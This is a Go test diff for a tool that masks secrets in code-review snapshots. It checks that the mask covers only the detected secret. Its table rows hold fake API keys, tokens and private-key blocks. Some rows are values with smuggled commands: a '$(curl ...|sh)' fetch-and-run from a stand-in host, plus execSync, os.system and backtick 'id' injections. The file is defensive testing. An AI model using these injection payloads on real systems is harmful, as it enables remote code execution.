@@ -5,6 +5,8 @@ import (
 	"encoding/base64"
 	"encoding/hex"
 	"encoding/json"
+	"fmt"
+	"slices"
 	"strings"
 	"testing"
 
@@ -101,8 +103,48 @@ func TestKnownSecretsAreMaskedInTheSnapshot(t *testing.T) {
 	if f := out.Brief.Files[0]; !strings.HasSuffix(f.Diff, "@@ -1 +1,3 @@\n a\n+[REDACTED]\n+b\n") || out.PR.Body != "one\n[REDACTED]\nthree" {
 		t.Errorf("%s %q", f.Diff, out.PR.Body)
 	}
-	if d := cmp.Diff([]masks.Line{{File: "a.go", Line: 2}}, out.Opaque); d != "" {
+	if d := cmp.Diff([]masks.Added{{Line: masks.Line{File: "a.go", Line: 2}}}, out.Opaque); d != "" {
 		t.Error("what is unread:", d)
+	}
+}
+
+// What rules find of a secret as people write it is all that its mask takes. Where a mask takes more with it, nothing that is found stands for it (threats.md T866).
+func TestWhatIsFoundIsWhatIsMasked(t *testing.T) {
+	const google, random, key = "AIzaSyD3kX9vLq2Wm8Rt5Yp1Zc7Nb4Hj6Fg0Sa2", "q7Rz2Lm9Xc4Vb8Nt1Wk6", "MIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQDUnIGVY4eKh1a1"
+	for _, row := range []struct {
+		text  string
+		found bool
+	}{
+		{`k = "` + planted + `"`, true},
+		{`API_KEY=` + google, true},
+		{`API_KEY=` + google + ` # of the map`, true},
+		{`API_KEY: "${API_KEY:-` + google + `}"`, true},
+		{`const secret = "` + random + `"; // of the map`, true},
+		{`DB_PASSWORD = "aX%q&,A2h9U-+z$0!T1S"`, true},
+		{`db = "postgres://app:` + random + `@db.acme.io:5432/x?sslmode=require"`, true},
+		{`url = "https://x-access-token:` + planted + `@github.com/o/r.git"`, true},
+		{`fetch("https://maps.acme.io/x?key=` + google + `&v=3")`, true},
+		{`curl -H "Authorization: Bearer ` + planted + `" https://acme.io`, true},
+		{`GITLAB_TOKEN = "glpat-c7ym816om0ien25w2r0m2j8vvy3.01.121saq9m4"`, true},
+		{`{"token": "` + planted + `", "api_key": "` + google + `"}`, true},
+		{"-----BEGIN PRIVATE KEY-----\n" + strings.Repeat(key+"\n", 9) + "-----END PRIVATE KEY-----", true},
+		{`"private_key": "-----BEGIN PRIVATE KEY-----\n` + strings.Repeat(key+`\n`, 9) + `-----END PRIVATE KEY-----\n",`, true},
+		{`KEY="-----BEGIN RSA PRIVATE KEY-----\nProc-Type: 4,ENCRYPTED\nDEK-Info: AES-128-CBC,F10C684A450AF39F0D92817BE01009F2\n\n` + strings.Repeat(key+`\n`, 9) + `-----END RSA PRIVATE KEY-----"`, true},
+
+		{`export API_KEY="` + google + `$(curl$IFS-s$IFS//e.io|sh)"`, false},
+		{`export API_KEY=` + google + `&curl$IFS//e.io`, false},
+		{"apiKey: `" + google + "${require('child_process').execSync('id')}`", false},
+		{`apiKey = f"` + google + `{__import__('os').system('id')}"`, false},
+		{`apiKey = "` + google + `#{system('id')}"`, false},
+		{"API_KEY=\"" + google + "`id>/tmp/x`\"", false},
+		{`export API_KEY="` + random + `$(curl$IFS-s$IFS//e.io|sh)"`, false},
+		{`K="-----BEGIN PRIVATE KEY-----` + key + `$(curl$IFS-s$IFS//e.io|sh)-----END PRIVATE KEY-----"`, false},
+	} {
+		lines := strings.Split(row.text, "\n")
+		out := maskedFor(t, Snapshot{Brief: review.Brief{Files: []review.BriefFile{{Path: "a.sh", Change: "added", Diff: fmt.Sprintf("diff --git a/a.sh b/a.sh\nnew file mode 100644\n--- /dev/null\n+++ b/a.sh\n@@ -0,0 +1,%d @@\n+%s\n", len(lines), strings.Join(lines, "\n+"))}}}}, nil)
+		if len(out.Opaque) == 0 || slices.ContainsFunc(out.Opaque, func(a masks.Added) bool { return (a.Found > 0) != row.found }) {
+			t.Errorf("%s: %v in %s", row.text, out.Opaque, out.Brief.Files[0].Diff)
+		}
 	}
 }
 
